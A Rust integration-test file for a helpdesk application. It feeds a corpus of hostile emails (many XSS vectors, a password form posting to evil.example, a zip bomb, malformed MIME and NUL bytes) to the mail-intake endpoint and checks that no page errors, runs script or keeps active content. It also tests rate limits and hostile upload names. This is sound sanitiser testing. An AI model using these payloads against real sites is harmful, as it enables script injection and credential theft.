//! Hostile input: a corpus of malicious and malformed mail delivered through `POST /inbound/mail`,
//! then every page it reaches opened over HTTP on both databases (no 500s) and in headless
//! Chromium (no script runs, no page errors, no active content left in the page); and the rate
//! limits of the token-authorised doors (inbound mail, customer upload links).

mod common;

use std::collections::BTreeSet;

use casebook::auth::Role;
use casebook::cases::Case;
use common::browser::Browser;
use common::{BackendKind, INBOUND_TOKEN, TEST_PASSWORD, TestApp, spawn_app_with};

/// What every payload tries to do when it runs.
const PWN: &str = "top.__pwned=1";

/// One hostile mail: a name for messages, and its raw bytes.
struct Hostile {
    name: &'static str,
    raw: Vec<u8>,
}

fn headers(id: &str, from: &str, subject: &str) -> String {
    format!(
        "From: {from}\r\nTo: support@casebook.test\r\nSubject: {subject}\r\n\
         Message-ID: <{id}@hostile.example>\r\nDate: Sat, 05 Dec 2026 10:00:00 +0000\r\n\
         MIME-Version: 1.0\r\n"
    )
}

fn simple(id: &str, content_type: &str, body: &str) -> Vec<u8> {
    format!(
        "{}Content-Type: {content_type}\r\n\r\n{body}\r\n",
        headers(id, &format!("{id} <{id}@customer.example>"), id)
    )
    .into_bytes()
}

/// `multipart/mixed` with the given parts (each: its headers and body, already encoded).
fn multipart(id: &str, html: &str, parts: &[(String, String)]) -> Vec<u8> {
    let mut raw = headers(id, &format!("{id} <{id}@customer.example>"), id);
    raw.push_str("Content-Type: multipart/mixed; boundary=\"b0\"\r\n\r\n");
    raw.push_str(&format!(
        "--b0\r\nContent-Type: text/html; charset=utf-8\r\n\r\n{html}\r\n"
    ));
    for (head, body) in parts {
        raw.push_str(&format!("--b0\r\n{head}\r\n\r\n{body}\r\n"));
    }
    raw.push_str("--b0--\r\n");
    raw.into_bytes()
}

fn base64_lines(bytes: &[u8]) -> String {
    use base64::Engine;
    let text = base64::engine::general_purpose::STANDARD.encode(bytes);
    let mut out = String::with_capacity(text.len() + text.len() / 38);
    for chunk in text.as_bytes().chunks(76) {
        out.push_str(std::str::from_utf8(chunk).unwrap());
        out.push_str("\r\n");
    }
    out
}

/// Script in every place HTML mail can hide it.
fn script_html() -> String {
    format!(
        r#"<html><head><base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=javascript:{PWN}">
<meta http-equiv="refresh" content="1;url=https://evil.example/"><style>body{{background:url("javascript:{PWN}")}}</style>
<link rel="stylesheet" href="https://evil.example/x.css"><script>{PWN}</script></head>
<body onload="{PWN}"><p>Hello</p><script src="data:text/javascript,{PWN}"></script>
<img src=x onerror="{PWN}"><img src="javascript:{PWN}"><img src="https://evil.example/t.png" onload="{PWN}">
<svg onload="{PWN}"><script>{PWN}</script><a xlink:href="javascript:{PWN}"><text>svg link</text></a></svg>
<a href="javascript:{PWN}">js link</a><a href=" JaVaScRiPt:{PWN}">spaced</a><a href="jav&#x09;ascript:{PWN}">tab</a>
<a href="data:text/html;base64,PHNjcmlwdD50b3AuX19wd25lZD0xPC9zY3JpcHQ+">data link</a>
<a href="vbscript:msgbox(1)">vb</a>
<div style="background:url(javascript:{PWN});width:expression({PWN})">css</div>
<div style="background-image:url(&quot;javascript:{PWN}&quot;)">css2</div>
<div style="color:red;behavior:url(x.htc);-moz-binding:url(x.xml#x)">css3</div>
<div style="\62 ackground:\75 rl(javascript:{PWN})">escaped css</div>
<form action="https://evil.example/steal" method="post"><input name="password"><button formaction="javascript:{PWN}">Sign in</button></form>
<iframe src="javascript:{PWN}"></iframe><iframe srcdoc="<script>{PWN}</script>"></iframe>
<object data="data:text/html,<script>{PWN}</script>"></object><embed src="javascript:{PWN}">
<details open ontoggle="{PWN}"><summary>t</summary></details><video poster="javascript:{PWN}" onerror="{PWN}"><source onerror="{PWN}"></video>
<math><mtext><table><mglyph><style><img src=x onerror="{PWN}"></style></mglyph></table></mtext></math>
<noscript><p title="</noscript><img src=x onerror={PWN}>"></noscript>
<input autofocus onfocus="{PWN}"><marquee onstart="{PWN}">m</marquee>
<img src="x" srcset="javascript:{PWN} 1x"><isindex action="javascript:{PWN}">
</body></html>"#
    )
}

fn svg_with_script() -> String {
    format!(
        r#"<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="{PWN}"><script>{PWN}</script><circle r="10"/></svg>"#
    )
}

/// The corpus. Every payload sets `window.__pwned` when it runs.
fn corpus() -> Vec<Hostile> {
    let mut all = Vec::new();
    all.push(Hostile {
        name: "html-script",
        raw: simple("html-script", "text/html; charset=utf-8", &script_html()),
    });
    all.push(Hostile {
        name: "plain-text-payloads",
        raw: simple(
            "plain-text-payloads",
            "text/plain; charset=utf-8",
            &format!(
                "<script>{PWN}</script>\r\n\"><img src=x onerror={PWN}>\r\njavascript:{PWN}\r\n\
                 https://example.com/\"><script>{PWN}</script>\r\n"
            ),
        ),
    });
    all.push(Hostile {
        name: "svg-inline-and-attached",
        raw: multipart(
            "svg-inline-and-attached",
            &format!(
                "<p>see image</p><img src=\"cid:evil@x\"><img src=\"data:image/svg+xml;base64,{}\">{}",
                base64_lines(svg_with_script().as_bytes()).replace("\r\n", ""),
                svg_with_script()
            ),
            &[
                (
                    "Content-Type: image/svg+xml; name=\"evil.svg\"\r\nContent-ID: <evil@x>\r\n\
                     Content-Disposition: inline; filename=\"evil.svg\"\r\nContent-Transfer-Encoding: base64"
                        .into(),
                    base64_lines(svg_with_script().as_bytes()),
                ),
                (
                    "Content-Type: text/html; name=\"page.html\"\r\n\
                     Content-Disposition: attachment; filename=\"page.html\""
                        .into(),
                    format!("<script>{PWN}</script>"),
                ),
                (
                    format!(
                        "Content-Type: application/octet-stream\r\nContent-Disposition: attachment; \
                         filename=\"<img src=x onerror={PWN}>.txt\""
                    ),
                    "data".into(),
                ),
            ],
        ),
    });
    all.push(Hostile {
        name: "huge-subject",
        raw: {
            let subject = format!("<script>{PWN}</script>{}", "A".repeat(200 * 1024));
            format!(
                "{}Content-Type: text/plain\r\n\r\nbig subject\r\n",
                headers("huge-subject", "huge <huge@customer.example>", &subject)
            )
            .into_bytes()
        },
    });
    all.push(Hostile {
        name: "ten-thousand-recipients",
        raw: {
            let to: Vec<String> = (0..10_000)
                .map(|i| format!("\"<script>{PWN}</script>{i}\" <r{i}@many.example>"))
                .collect();
            let head = headers(
                "ten-thousand-recipients",
                "many <many@customer.example>",
                "many",
            )
            .replace(
                "To: support@casebook.test\r\n",
                &format!(
                    "To: support@casebook.test,\r\n {}\r\nCc: {}\r\n",
                    to[..5000].join(",\r\n "),
                    to[5000..].join(",\r\n ")
                ),
            );
            format!("{head}Content-Type: text/plain\r\n\r\nhello all\r\n").into_bytes()
        },
    });
    all.push(Hostile {
        name: "nested-mime",
        raw: {
            let depth = 100;
            let mut raw = headers("nested-mime", "nest <nest@customer.example>", "nested");
            for level in 0..depth {
                raw.push_str(&format!(
                    "Content-Type: multipart/mixed; boundary=\"n{level}\"\r\n\r\n--n{level}\r\n"
                ));
            }
            raw.push_str(&format!(
                "Content-Type: text/html\r\n\r\n<img src=x onerror=\"{PWN}\">deep\r\n"
            ));
            for level in (0..depth).rev() {
                raw.push_str(&format!("--n{level}--\r\n"));
            }
            raw.into_bytes()
        },
    });
    all.push(Hostile {
        name: "large-attachment",
        raw: {
            // 15 MiB of bytes is 20 MiB in base64: below max_message_bytes (25 MiB) and
            // max_attachment_bytes (16 MiB here).
            let bytes: Vec<u8> = (0..15 * 1024 * 1024u32)
                .map(|i| (i.wrapping_mul(2_654_435_761) >> 13) as u8)
                .collect();
            multipart(
                "large-attachment",
                "<p>big file</p>",
                &[(
                    "Content-Type: application/octet-stream\r\n\
                     Content-Disposition: attachment; filename=\"big.bin\"\r\nContent-Transfer-Encoding: base64"
                        .into(),
                    base64_lines(&bytes),
                )],
            )
        },
    });
    all.push(Hostile {
        name: "oversized-attachment-with-a-payload-name",
        raw: {
            // Over max_attachment_bytes as `start` sets it (16 MiB): quarantined, and the reason
            // names the file.
            let bytes = vec![b'A'; 17 * 1024 * 1024];
            multipart(
                "oversized-attachment",
                "<p>too big</p>",
                &[(
                    format!(
                        "Content-Type: application/octet-stream\r\nContent-Disposition: attachment; \
                         filename=\"<script>{PWN}</script><img src=x onerror={PWN}>.bin\"\r\n\
                         Content-Transfer-Encoding: base64"
                    ),
                    base64_lines(&bytes),
                )],
            )
        },
    });
    all.push(Hostile {
        name: "diagnostics-attachment-with-nul-and-payloads",
        raw: multipart(
            "diagnostics-attachment",
            "<p>wmic output attached</p>",
            &[(
                format!(
                    "Content-Type: text/plain; charset=utf-8\r\nContent-Disposition: attachment; \
                     filename=\"wmic<script>{PWN}</script>.txt\""
                ),
                format!(
                    "Manufacturer  Model  SerialNumber\r\nVMware, Inc.\0  VMware7,1<script>{PWN}</script>  \
                     VMware-56 4d\0\"><img src=x onerror={PWN}>\r\n"
                ),
            )],
        ),
    });
    all.push(Hostile {
        name: "not-a-mail",
        raw: format!("\r\n<script>{PWN}</script><img src=x onerror={PWN}>\0\r\n").into_bytes(),
    });
    all.push(Hostile {
        name: "zip-bomb",
        raw: {
            let bomb = std::fs::read(concat!(
                env!("CARGO_MANIFEST_DIR"),
                "/tests/fixtures/diagnostics/zip-bomb.zip"
            ))
            .unwrap();
            multipart(
                "zip-bomb",
                "<p>logs attached</p>",
                &[(
                    "Content-Type: application/zip\r\n\
                     Content-Disposition: attachment; filename=\"logs.zip\"\r\nContent-Transfer-Encoding: base64"
                        .into(),
                    base64_lines(&bomb),
                )],
            )
        },
    });
    all.push(Hostile {
        name: "nul-bytes",
        raw: format!(
            "From: nul\0name <nul@customer.example>\r\nTo: support@casebook.test\r\nSubject: nul\0subject<script>{PWN}</script>\r\n\
             Message-ID: <nul\0bytes@hostile.example>\r\nMIME-Version: 1.0\r\n\
             Content-Type: text/html; charset=utf-8\r\n\r\n<p>a\0b<scr\0ipt>{PWN}</script><img src=x on\0error=\"{PWN}\"></p>\r\n"
        )
        .into_bytes(),
    });
    all.push(Hostile {
        name: "invalid-utf8-headers",
        raw: {
            let mut raw = Vec::new();
            for (name, value) in [
                ("From", "\"bad \u{1} name\" <bad@customer.example>"),
                ("To", "support@casebook.test"),
                ("Cc", "cc@customer.example"),
                ("Subject", "bad bytes"),
                ("Message-ID", "<bad-utf8@hostile.example>"),
                ("Date", "Sat, 05 Dec 2026 10:00:00 +0000"),
                ("Reply-To", "reply@customer.example"),
                ("In-Reply-To", "<nothing@x>"),
                ("References", "<nothing@x>"),
                ("MIME-Version", "1.0"),
                ("Content-Type", "text/html; charset=utf-8"),
                ("X-Custom", "value"),
            ] {
                raw.extend_from_slice(name.as_bytes());
                raw.extend_from_slice(b": \xff\xfe\xc3\x28");
                raw.extend_from_slice(value.as_bytes());
                raw.extend_from_slice(b"\xe2\x82\r\n");
            }
            raw.extend_from_slice(b"\r\n<p>\xff\xfe body \xc3\x28</p><script>");
            raw.extend_from_slice(PWN.as_bytes());
            raw.extend_from_slice(b"</script>\r\n");
            raw
        },
    });
    let payload = format!("<script>{PWN}</script>\"><img src=x onerror={PWN}>");
    all.push(Hostile {
        name: "payload-in-names",
        raw: format!(
            "{}Content-Type: text/plain\r\n\r\nnames\r\n",
            headers(
                "payload-in-names",
                &format!(
                    "\"{}\" <names@customer.example>",
                    payload.replace('"', "\\\"")
                ),
                &payload
            )
        )
        .into_bytes(),
    });
    all.push(Hostile {
        name: "payload-in-encoded-words",
        raw: {
            use base64::Engine;
            let b = base64::engine::general_purpose::STANDARD.encode(payload.as_bytes());
            format!(
                "{}Content-Type: text/plain\r\n\r\nencoded\r\n",
                headers(
                    "payload-in-encoded-words",
                    &format!("=?utf-8?b?{b}?= <encoded@customer.example>"),
                    &format!("=?utf-8?b?{b}?=")
                )
            )
            .into_bytes()
        },
    });
    all
}

/// What became of one mail.
enum Landing {
    Case(String),
    Quarantine,
}

async fn deliver(app: &TestApp, mail: &Hostile) -> Landing {
    let r = app
        .client
        .post(app.url("/inbound/mail"))
        .bearer_auth(INBOUND_TOKEN)
        .body(mail.raw.clone())
        .send()
        .await
        .expect("POST /inbound/mail");
    let status = r.status().as_u16();
    let text = r.text().await.unwrap();
    assert_eq!(status, 202, "{}: {text}", mail.name);
    let outcome: serde_json::Value = serde_json::from_str(&text).unwrap();
    match outcome["outcome"].as_str() {
        Some("created" | "appended") => Landing::Case(outcome["case"].as_str().unwrap().into()),
        Some("quarantined") => Landing::Quarantine,
        other => panic!(
            "{}: neither a case nor the quarantine: {other:?} {text}",
            mail.name
        ),
    }
}

/// Every page a case's mail reaches, for a signed-in admin.
fn case_pages(number: &str) -> Vec<String> {
    vec![
        format!("/cases/{number}"),
        format!("/cases/{number}/reply"),
        format!("/cases/{number}/diagnostics/report"),
        format!("/cases/{number}/diagnostics/report.txt"),
        format!("/api/v1/cases/{number}"),
    ]
}

async fn start(backend: BackendKind) -> Option<TestApp> {
    spawn_app_with(
        backend,
        &[
            ("CASEBOOK_INBOUND_TOKEN", INBOUND_TOKEN),
            ("CASEBOOK_MAX_ATTACHMENT_BYTES", "16777216"),
        ],
    )
    .await
}

/// Delivers the corpus; returns the cases it made and whether anything went to the quarantine.
async fn deliver_corpus(app: &TestApp) -> (BTreeSet<String>, bool) {
    let mut cases = BTreeSet::new();
    let mut quarantined = false;
    for mail in corpus() {
        match deliver(app, &mail).await {
            Landing::Case(n) => {
                eprintln!("{}: case {n}", mail.name);
                cases.insert(n);
            }
            Landing::Quarantine => {
                eprintln!("{}: quarantined", mail.name);
                quarantined = true;
            }
        }
    }
    (cases, quarantined)
}

async fn hostile_mail_never_breaks_a_page(backend: BackendKind) {
    let Some(app) = start(backend).await else {
        return;
    };
    let (cases, quarantined) = deliver_corpus(&app).await;
    assert!(!cases.is_empty());
    assert!(quarantined, "some of the corpus is quarantined");
    let admin = app.login_as(Role::Admin).await;
    let mut pages = vec![
        "/cases".to_string(),
        "/cases?q=script".to_string(),
        "/admin/quarantine".to_string(),
        "/api/v1/cases".to_string(),
    ];
    for n in &cases {
        pages.extend(case_pages(n));
    }
    let attachment = regex::Regex::new(r#"href="(/cases/[^"/]+/attachments/\d+)""#).unwrap();
    let name = casebook::api::tokens::TokenName::parse("hostile").unwrap();
    let (_, token) =
        casebook::api::tokens::ApiToken::create(&mut app.conn(), admin.id, &name).unwrap();
    for path in &pages {
        let request = app.client.get(app.url(path));
        let request = if path.starts_with("/api/") {
            request.bearer_auth(&token)
        } else {
            request
        };
        let r = request.send().await.unwrap();
        let status = r.status().as_u16();
        let body = r.text().await.unwrap();
        assert_eq!(status, 200, "{path} on {backend:?}: {body}");
        for c in attachment.captures_iter(&body) {
            let r = app.get(&c[1]).await;
            assert_eq!(r.status().as_u16(), 200, "{}", &c[1]);
            let rendered = r
                .headers()
                .get("content-disposition")
                .is_some_and(|v| v.to_str().unwrap_or("").starts_with("inline"));
            assert!(
                !rendered
                    || r.headers()
                        .get("content-security-policy")
                        .is_some_and(|v| v.to_str().unwrap().contains("sandbox")),
                "{} is shown in the browser only under a sandbox",
                &c[1]
            );
        }
    }
    // Nothing the corpus carried became an open case with an absurd participant list.
    for n in &cases {
        let case = Case::find_by_number(&mut app.conn(), n).unwrap().unwrap();
        let participants =
            casebook::cases::messages::Participant::for_case(&mut app.conn(), case.id).unwrap();
        assert!(
            participants.len() <= 1 + app.config.max_participants_per_mail as usize,
            "{n} has {} participants",
            participants.len()
        );
    }
}

both_backends!(hostile_mail_never_breaks_a_page);

/// Injected before every page: collects script errors, failed promises, console errors and CSP
/// violations (a payload the sanitiser let through and the CSP then blocked is a failure too).
const WATCH_PAGE: &str = r#"
window.__pageErrors = [];
window.addEventListener('error', function (e) {
  if (e instanceof ErrorEvent) { window.__pageErrors.push('error: ' + e.message); }
}, true);
window.addEventListener('unhandledrejection', function (e) {
  window.__pageErrors.push('unhandled rejection: ' + e.reason);
});
document.addEventListener('securitypolicyviolation', function (e) {
  // A `cid:` image naming no displayable part keeps its `cid:` source on purpose (a broken image
  // that loads nothing, `ingest::html::rewrite_cid_images`); the CSP refusing it is that design.
  if (e.violatedDirective === 'img-src' && e.blockedURI === 'cid') { return; }
  window.__pageErrors.push('CSP violation: ' + e.violatedDirective + ' ' + e.blockedURI + ' ' + (e.sample || ''));
});
var consoleError = console.error;
console.error = function () {
  window.__pageErrors.push('console.error: ' + Array.prototype.join.call(arguments, ' '));
  return consoleError.apply(console, arguments);
};
"#;

/// Active content left in the page: elements that run or load code, event handlers, script URLs,
/// forms that post elsewhere, style that loads or computes. Casebook's own pages have none but their
/// own script files (`<script src="/static/…js">`, same origin, nothing inline), which are allowed.
const SCAN_PAGE: &str = r#"
document.querySelectorAll('details').forEach(function (d) { d.open = true; });
var bad = [];
var origin = location.origin;
var urlAttrs = ['href', 'xlink:href', 'src', 'action', 'formaction', 'data', 'srcset', 'poster',
                'background', 'ping', 'lowsrc', 'dynsrc', 'codebase', 'cite', 'longdesc'];
document.querySelectorAll('*').forEach(function (el) {
  var tag = el.tagName.toLowerCase();
  var ownScript = tag === 'script' && el.hasAttribute('src')
      && el.src.indexOf(origin + '/static/') === 0 && /\.js$/.test(el.src)
      && el.textContent.trim() === '';
  if (!ownScript && ['script', 'iframe', 'frame', 'frameset', 'object', 'embed', 'applet', 'base', 'portal',
       'style', 'isindex'].indexOf(tag) >= 0) { bad.push('<' + tag + '>'); }
  if (tag === 'meta' && (el.getAttribute('http-equiv') || '').toLowerCase() === 'refresh') {
    bad.push('<meta http-equiv=refresh>');
  }
  if (tag === 'link' && el.href.indexOf(origin + '/') !== 0) { bad.push('<link href=' + el.href + '>'); }
  if (tag === 'form' && el.hasAttribute('action')
      && new URL(el.getAttribute('action'), location.href).origin !== origin) {
    bad.push('<form action=' + el.getAttribute('action') + '>');
  }
  for (var i = 0; i < el.attributes.length; i++) {
    var a = el.attributes[i];
    var name = a.name.toLowerCase();
    var value = a.value.replace(/[\s\u0000-\u001f]/g, '').toLowerCase();
    if (name.indexOf('on') === 0) { bad.push(tag + ' ' + name); }
    if (name === 'srcdoc') { bad.push(tag + ' srcdoc'); }
    if (urlAttrs.indexOf(name) >= 0 && (value.indexOf('javascript:') === 0 || value.indexOf('vbscript:') === 0
        || (value.indexOf('data:') === 0 && !/^data:image\/(png|jpeg|gif|webp)[;,]/.test(value)))) {
      bad.push(tag + ' ' + name + '=' + a.value.slice(0, 60));
    }
    if (name === 'style' && /url\(|expression\(|javascript:|\\|behavior|binding|@import/.test(value)) {
      bad.push(tag + ' style=' + a.value.slice(0, 60));
    }
  }
});
return bad;
"#;

/// The corpus in a real browser: every page its mail reaches, signed in as an admin. No payload
/// runs (`window.__pwned` stays unset), the page raises no error and no CSP violation, and no
/// active content survives into the page; a meta refresh does not take the page anywhere.
#[actix_web::test]
async fn no_hostile_mail_runs_script_in_chromium() {
    let Some(app) = start(BackendKind::Sqlite).await else {
        return;
    };
    let Some(browser) = Browser::start().await else {
        return;
    };
    let (cases, quarantined) = deliver_corpus(&app).await;
    assert!(quarantined, "some of the corpus is quarantined");
    app.create_user("admin@casebook.test", "Admin", Role::Admin);
    browser.before_each_page(WATCH_PAGE).await;
    browser.goto(&app.url("/login")).await;
    browser
        .type_into("input[name=email]", "admin@casebook.test")
        .await;
    browser
        .type_into("input[name=password]", TEST_PASSWORD)
        .await;
    browser.click("button[type=submit].primary").await;
    browser.wait_for_text("/cases/").await;

    let mut pages = vec!["/cases".to_string(), "/cases?q=script".to_string()];
    pages.push("/admin/quarantine".into());
    for n in &cases {
        pages.push(format!("/cases/{n}"));
        pages.push(format!("/cases/{n}/reply"));
        pages.push(format!("/cases/{n}/diagnostics/report"));
    }
    let mut failures = Vec::new();
    for path in &pages {
        let url = app.url(path);
        browser.goto(&url).await;
        let found = browser.execute(SCAN_PAGE).await;
        // Give anything the page might have started (a refresh, a timer, a lazy image) a moment.
        tokio::time::sleep(std::time::Duration::from_millis(300)).await;
        let state = browser
            .execute(
                "return {pwned: window.__pwned === undefined ? null : String(window.__pwned), \
                 errors: window.__pageErrors || ['the watch script did not run'], \
                 url: location.href};",
            )
            .await;
        if !state["pwned"].is_null() {
            failures.push(format!("{path}: a payload ran"));
        }
        if state["url"].as_str() != Some(url.as_str()) {
            failures.push(format!("{path}: the page moved to {}", state["url"]));
        }
        for e in state["errors"].as_array().unwrap() {
            failures.push(format!("{path}: {e}"));
        }
        for b in found.as_array().unwrap() {
            failures.push(format!("{path}: active content {b}"));
        }
    }
    assert!(
        failures.is_empty(),
        "hostile mail reached the browser:\n{}",
        failures.join("\n")
    );
}

// ---------------------------------------------------------------------------------------------
// Rate limits.

async fn post_inbound(app: &TestApp, token: &str, i: usize) -> reqwest::Response {
    app.client
        .post(app.url("/inbound/mail"))
        .bearer_auth(token)
        .body(format!(
            "From: c{i} <c{i}@customer.example>\r\nTo: support@casebook.test\r\nSubject: hello {i}\r\n\
             Message-ID: <rate-{i}@customer.example>\r\n\r\nbody {i}\r\n"
        ))
        .send()
        .await
        .unwrap()
}

async fn inbound_mail_over_the_rate_gets_429_with_retry_after(backend: BackendKind) {
    let Some(app) = spawn_app_with(
        backend,
        &[
            ("CASEBOOK_INBOUND_TOKEN", INBOUND_TOKEN),
            ("CASEBOOK_INBOUND_RATE_PER_MINUTE", "3"),
        ],
    )
    .await
    else {
        return;
    };
    for i in 0..3 {
        let r = post_inbound(&app, INBOUND_TOKEN, i).await;
        assert_eq!(r.status().as_u16(), 202, "within the limit");
    }
    // A wrong token is refused as before and does not count against the real one.
    let r = post_inbound(&app, "wrong-token", 9).await;
    assert_eq!(r.status().as_u16(), 401);
    let r = post_inbound(&app, INBOUND_TOKEN, 3).await;
    assert_eq!(r.status().as_u16(), 429);
    let retry: u64 = r.headers()["retry-after"]
        .to_str()
        .unwrap()
        .parse()
        .unwrap();
    assert!(
        (1..=20).contains(&retry),
        "one request back in 20 s: {retry}"
    );
    let body: serde_json::Value = r.json().await.unwrap();
    assert_eq!(body["error"], "too_many_requests");
    assert!(
        body["message"].as_str().unwrap().contains(&if retry == 1 {
            "try again in 1 second ".to_string()
        } else {
            format!("try again in {retry} seconds ")
        }),
        "{body}"
    );
    // The refused message was not stored.
    let count: i64 = {
        use diesel::prelude::*;
        casebook::db::schema::cases::table
            .count()
            .get_result(&mut app.conn())
            .unwrap()
    };
    assert_eq!(count, 3, "only the accepted messages opened cases");
}

async fn each_upload_link_has_its_own_rate_limit(backend: BackendKind) {
    let Some(app) = spawn_app_with(
        backend,
        &[
            ("CASEBOOK_INBOUND_TOKEN", INBOUND_TOKEN),
            ("CASEBOOK_UPLOAD_RATE_PER_MINUTE", "4"),
        ],
    )
    .await
    else {
        return;
    };
    let number = app
        .deliver(String::from_utf8(simple("link-case", "text/plain", "hi")).unwrap())
        .await["case"]
        .as_str()
        .unwrap()
        .to_string();
    app.login_as(Role::Agent).await;
    let re = regex::Regex::new(r"/upload/[A-Za-z0-9_-]{43}").unwrap();
    let mut links = Vec::new();
    for _ in 0..2 {
        let r = app
            .post_form(&format!("/cases/{number}/upload-links"), &[("days", "7")])
            .await;
        assert_eq!(r.status().as_u16(), 200);
        let html = r.text().await.unwrap();
        links.push(
            re.find(&html)
                .expect("the link is shown")
                .as_str()
                .to_string(),
        );
    }
    let customer = app.another_browser();
    // GET and POST count together: four requests a minute per link.
    let mut form_page = String::new();
    for _ in 0..4 {
        let (status, html) = customer.get_text(&links[0]).await;
        assert_eq!(status, 200, "within the limit");
        form_page = html;
    }
    let csrf = regex::Regex::new(r#"name="csrf_token" value="([A-Za-z0-9_-]+)""#)
        .unwrap()
        .captures(&form_page)
        .map(|c| c[1].to_string())
        .expect("the upload form carries its CSRF token");
    let r = customer.get(&links[0]).await;
    assert_eq!(r.status().as_u16(), 429);
    assert!(r.headers().contains_key("retry-after"));
    let page = r.text().await.unwrap();
    assert!(
        page.contains("Too many requests for this upload link"),
        "a clear message: {page}"
    );
    // Posting is refused the same way, before the upload is read.
    let form = reqwest::multipart::Form::new()
        .text("csrf_token", csrf)
        .part(
            "files",
            reqwest::multipart::Part::bytes(
                b"Manufacturer  Model\r\nVMware, Inc.  VMware7,1\r\n".to_vec(),
            )
            .file_name("wmic.txt"),
        );
    let r = customer
        .client
        .post(customer.url(&links[0]))
        .multipart(form)
        .send()
        .await
        .unwrap();
    assert_eq!(r.status().as_u16(), 429);
    // The other link of the same case is untouched.
    let (status, _) = customer.get_text(&links[1]).await;
    assert_eq!(status, 200, "another link counts on its own");
}

both_backends!(
    inbound_mail_over_the_rate_gets_429_with_retry_after,
    each_upload_link_has_its_own_rate_limit,
);

/// A customer's file with a hostile name and content (a NUL makes it "not a text file"), through
/// the upload link: no server error, and the name is shown as text on the customer's result page;
/// nothing of it is markup there or on the case page.
async fn hostile_upload_names_are_shown_as_text(backend: BackendKind) {
    let Some(app) = start(backend).await else {
        return;
    };
    let number = app
        .deliver(String::from_utf8(simple("upload-case", "text/plain", "hi")).unwrap())
        .await["case"]
        .as_str()
        .unwrap()
        .to_string();
    app.login_as(Role::Agent).await;
    let r = app
        .post_form(&format!("/cases/{number}/upload-links"), &[("days", "7")])
        .await;
    let html = r.text().await.unwrap();
    let link = regex::Regex::new(r"/upload/[A-Za-z0-9_-]{43}")
        .unwrap()
        .find(&html)
        .expect("the link is shown")
        .as_str()
        .to_string();
    let customer = app.another_browser();
    let (_, page) = customer.get_text(&link).await;
    let csrf = regex::Regex::new(r#"name="csrf_token" value="([A-Za-z0-9_-]+)""#)
        .unwrap()
        .captures(&page)
        .map(|c| c[1].to_string())
        .expect("the upload form carries its CSRF token");
    let name = format!("<script>{PWN}</script>\"><img src=x onerror={PWN}>.txt");
    let content =
        format!("Manufacturer  Model\r\nVMware, Inc.\0 <script>{PWN}</script>  VMware7,1\r\n");
    let form = reqwest::multipart::Form::new()
        .text("csrf_token", csrf)
        .part(
            "files",
            reqwest::multipart::Part::bytes(content.into_bytes()).file_name(name),
        );
    let r = customer
        .client
        .post(customer.url(&link))
        .multipart(form)
        .send()
        .await
        .unwrap();
    let status = r.status().as_u16();
    let result = r.text().await.unwrap();
    assert!(status < 500, "{status}: {result}");
    let (status, case_page) = app.get_text(&format!("/cases/{number}")).await;
    assert_eq!(status, 200);
    for (what, html) in [("result page", &result), ("case page", &case_page)] {
        assert!(
            !html.contains("<script>top") && !html.contains("<img src=x"),
            "the {what} shows the name as markup: {html}"
        );
    }
    // The name is cut to its last path component (after the `/` of `</script>`), then shown.
    assert!(
        result.contains("&#60;img src=x onerror"),
        "the result page shows the file name as text: {result}"
    );
}

both_backends!(hostile_upload_names_are_shown_as_text);
